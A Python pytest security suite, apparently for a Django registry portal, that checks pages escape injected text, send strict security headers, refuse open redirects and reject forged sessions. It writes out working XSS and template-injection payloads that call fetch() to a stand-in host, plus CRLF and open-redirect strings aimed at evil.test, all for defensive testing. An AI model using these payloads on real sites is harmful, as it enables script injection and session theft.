"""What a page does with text that somebody else chose, and what it lets a browser do."""

from __future__ import annotations

import re
import time
from datetime import datetime, timedelta
from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from django.conf import settings
from django.contrib.sessions.backends.db import SessionStore
from django.contrib.sessions.models import Session
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.models import User
from artifacts.models import Artifact, Repository
from audit.actions import record
from audit.models import Entry
from projects.models import Member, Role
from robots.models import Robot
from tests.api.conftest import Stage
from tests.attacks.browser import SIGN_IN, form_token, signed_in
from tests.cast import PASSWORD, make_user

TRAP = "trap-7f3a"
PAYLOADS = [
    f"<script src=//{TRAP}></script>",
    f"<img src=x onerror=fetch('//{TRAP}')>",
    f"\"><svg/onload=fetch('//{TRAP}')>",
    f"' autofocus onfocus=fetch('//{TRAP}') x='",
    f"</title></textarea></script><script>fetch('//{TRAP}')</script>",
    f"<svg><a xlink:href=javascript:fetch('//{TRAP}')>x</a></svg>",
    f"[x](javascript:fetch('//{TRAP}'))",
    f"javascript:fetch('//{TRAP}')",
    f"<iframe srcdoc=\"<script>fetch('//{TRAP}')</script>\">",
    f"<style>@import '//{TRAP}';</style>",
    f"<form action=//{TRAP}><button>",
    "{{ 7*7 }}{% debug %}" + TRAP,
]


WORD = re.compile(r"[\w-]{16,}")
ADDRESSES = ("src", "href", "xlink:href", "action", "formaction", "data", "poster", "hx-get", "hx-post")


class Danger(HTMLParser):
    """Collects what a page would run, load or send because of TRAP."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found += [f"<{tag} {name}>" for name, _ in attributes if name.startswith("on") or name == "srcdoc"]
        addresses = [(value or "").strip().lower() for name, value in attributes if name in ADDRESSES]
        leaves = [text for text in addresses if text.startswith(("javascript:", "data:text", "//"))]
        self.found += leaves + [text for text in addresses if TRAP in text and not text.startswith(("/", "?", "#"))]
        if tag in ("iframe", "object", "embed", "base"):
            self.found.append(f"<{tag}>")

    def handle_data(self, data: str) -> None:
        if self.cdata_elem and TRAP in data:  # inside <script> or <style>
            self.found.append(f"<{self.cdata_elem}>{data[:60]}")


def dangers(page: bytes) -> list[str]:
    parser = Danger()
    parser.feed(page.decode())
    return parser.found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_parser_sees_a_danger(payload: str) -> None:
    """Of payloads that would do something in the open; the last four need another place."""
    if payload.startswith("<") and "<form" not in payload and "<svg><a" not in payload:
        assert dangers(f"<p>{payload}</p>".encode())


def poison(stage: Stage, payload: str) -> None:
    """`payload` in every text that people, robots and pushed content can bring."""
    User.objects.filter(pk=stage.cast.guest.pk).update(realname=payload[:255], comment=payload[:30])
    User.objects.filter(email="villain@haven.test").delete()
    villain = make_user("villain")
    User.objects.filter(pk=villain.pk).update(username=payload[:255], realname=payload[:255])
    Member.objects.create(project=stage.cast.private, user=villain, role=Role.GUEST)
    Repository.objects.filter(pk=stage.repository.pk).update(description=payload)
    Robot.objects.filter(pk=stage.robot.pk).update(description=payload)
    attributes = {"author": payload, "os": payload, "architecture": payload, "created": payload}
    config = {"Cmd": [payload], "Env": [f"A={payload}"], "Labels": {payload: payload}}
    history = [{"created": "2024-01-01T00:00:00Z", "created_by": payload, "comment": payload}]
    Artifact.objects.update(
        annotations={payload: payload, "org.opencontainers.image.url": payload},
        extra_attrs={**attributes, "config": config, "history": history},
        artifact_type=payload[:255],
        config_media_type=payload[:255],
    )
    record(villain.actor, "create", "artifact", payload, project=stage.cast.private, description=payload, a=payload)
    Entry.objects.update(username=payload[:255], resource=payload, operation_description=payload)


def all_pages(stage: Stage) -> list[str]:
    repository = reverse("portal:repository", args=["private", "app/web"])
    return [
        *("/", "/search?q=", "/projects", "/users", "/projects/private", "/projects/private/log"),
        *("/projects/private/members", "/projects/private/robots", "/projects/private/settings"),
        *(f"/projects/private/robots/{stage.robot.pk}", repository, f"{repository}/-/artifacts/{stage.image.digest}"),
        *(f"{repository}/-/artifacts/{stage.index.digest}", f"{repository}/-/description"),
    ]


FIRST = ("javascript:", "' autofocus", "{{ 7*7 }}")
"""How those begin that are dangerous at the beginning of a text alone."""
TOGETHER = [
    "".join([payload, *[each for each in PAYLOADS if not each.startswith(FIRST)][number::3]])
    for number, payload in enumerate(payload for payload in PAYLOADS if payload.startswith(FIRST))
]
"""All of them, in three texts of 255 letters at most."""


def test_every_payload_is_tried() -> None:
    assert [payload for payload in PAYLOADS if not any(payload in text for text in TOGETHER)] == []
    assert [text for text in TOGETHER if len(text) > 255] == []


@pytest.mark.parametrize("payload", TOGETHER, ids=FIRST)
def test_no_text_of_others_becomes_markup(stage: Stage, payload: str) -> None:
    poison(stage, payload)
    client = signed_in("admin")
    shown = 0
    for path in all_pages(stage):
        answer = client.get(path)
        assert answer.status_code == 200, path
        assert dangers(answer.content) == [], path
        assert b"49" + TRAP.encode() not in answer.content
        shown += TRAP.encode() in answer.content
    assert shown >= 6  # the pages did show it


def test_nothing_asked_for_becomes_markup(stage: Stage) -> None:
    admin, nobody, found = signed_in("admin"), Client(), []
    for path in ("/search?q={}", "/projects?q={}", "/users?q={}", SIGN_IN + "?next={}", "/{}", "/projects/{}"):
        client = nobody if path.startswith(SIGN_IN) else admin
        for payload in PAYLOADS:
            answer = client.get(path.format(quote(payload, safe="")))
            found += [(path, payload, danger) for danger in dangers(answer.content)]

    assert found == []


def test_a_wrong_sign_in_shows_the_name_as_text(stage: Stage) -> None:
    client = Client(enforce_csrf_checks=True)
    for payload in PAYLOADS[:4]:
        form = {"username": payload, "password": "x", "csrfmiddlewaretoken": form_token(client)}
        answer = client.post(SIGN_IN, form)
        assert answer.status_code in (200, 401, 429)
        assert dangers(answer.content) == []


def test_a_page_says_what_a_browser_may_do(stage: Stage) -> None:
    client = signed_in("alice")
    for path in ("/", SIGN_IN, "/projects", "/projects/private", "/nowhere", "/static/nothing.js"):
        answer = client.get(path)

        policy = answer.headers["Content-Security-Policy"]
        rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
        assert rules["default-src"] == "'none'", path
        assert rules["frame-ancestors"] == rules["base-uri"] == "'none'", path
        assert rules["script-src"] == rules["style-src"] == rules["form-action"] == "'self'", path
        assert answer.headers["X-Frame-Options"] == "DENY", path
        assert answer.headers["X-Content-Type-Options"] == "nosniff", path
        referrer = answer.headers["Referrer-Policy"]
        assert referrer in ("same-origin", "no-referrer", "strict-origin-when-cross-origin"), path


ODD_GOALS = [
    *("/a\r\nSet-Cookie: x=y", "/a\nLocation: //evil.test", "/\x00/evil.test", "/\n/evil.test", "/\u2028/evil"),
    *("http://haven.test:8080@evil.test", "http://evil.test\\@haven.test", "data:text/html,x", "%2F%2Fevil.test"),
]


@pytest.mark.parametrize("page", ["sign-in", "theme", "language"])
def test_nobody_is_sent_elsewhere_by_odd_letters(stage: Stage, page: str) -> None:
    client = signed_in("alice")
    for goal in ODD_GOALS:
        client = client if page != "sign-in" else Client(enforce_csrf_checks=True)
        token = form_token(client, "/account/password" if page != "sign-in" else SIGN_IN)
        form = {"username": "alice", "password": PASSWORD, "next": goal, "theme": "dark", "csrfmiddlewaretoken": token}

        answer = client.post(f"/account/{page}", form)

        assert answer.status_code == 302, goal
        assert answer.headers["Location"] == "/", goal
        assert "x" not in answer.cookies, goal


def test_a_cookie_cannot_be_read_by_scripts_or_sent_from_elsewhere(stage: Stage) -> None:
    cookies = signed_in("alice").cookies

    for name in (settings.SESSION_COOKIE_NAME, settings.CSRF_COOKIE_NAME):
        assert cookies[name]["httponly"]
        assert cookies[name]["samesite"] in ("Lax", "Strict")
        assert bool(cookies[name]["secure"]) == settings.SECURE


def test_a_page_that_asks_by_itself_does_not_keep_a_session(stage: Stage) -> None:
    """Somebody who left their desk is signed out in the end, though a page of theirs refreshes itself."""
    client = signed_in("alice")
    key = client.cookies[settings.SESSION_COOKIE_NAME].value

    def ends_after(**headers: str) -> datetime:
        session = SessionStore(key)
        session["seen"] = int(time.time()) - 600
        session.set_expiry(600)
        session.save()
        assert client.get("/projects/private", headers=headers).status_code == 200
        return Session.objects.get(pk=key).expire_date

    polled = ends_after(**{"x-harbor-no-session-renewal": "true"})
    visited = ends_after()

    assert polled < timezone.now() + timedelta(minutes=11) < visited


def test_a_made_up_session_is_nobody(stage: Stage) -> None:
    """Sessions are rows that a random key finds; Redis, cookies and pickles make none."""
    for forged in ("1", "a" * 32, "../../admin", "gASVBQAAAAAAAABLAS4=", "{}"):
        client = Client()
        client.cookies[settings.SESSION_COOKIE_NAME] = forged
        assert client.get("/users").status_code in (302, 403)
        assert client.get("/api/v2.0/users/current").status_code == 401


def test_an_error_page_shows_nothing_of_the_inside(stage: Stage) -> None:
    client = signed_in("admin")
    client.raise_request_exception = False
    stage.cast.private.quota.delete()  # something that nobody foresaw
    statuses = set()
    for path in ("/nowhere", "/api/v2.0/projects/private/summary", f"/projects/{'x' * 3000}", "/projects/private"):
        answer = client.get(path)
        statuses.add(answer.status_code)
        for word in (b"Traceback", b"site-packages", b"DoesNotExist", b"SELECT ", b"SECRET_KEY", b'File "'):
            assert word not in answer.content, path
    assert {404, 500} <= statuses
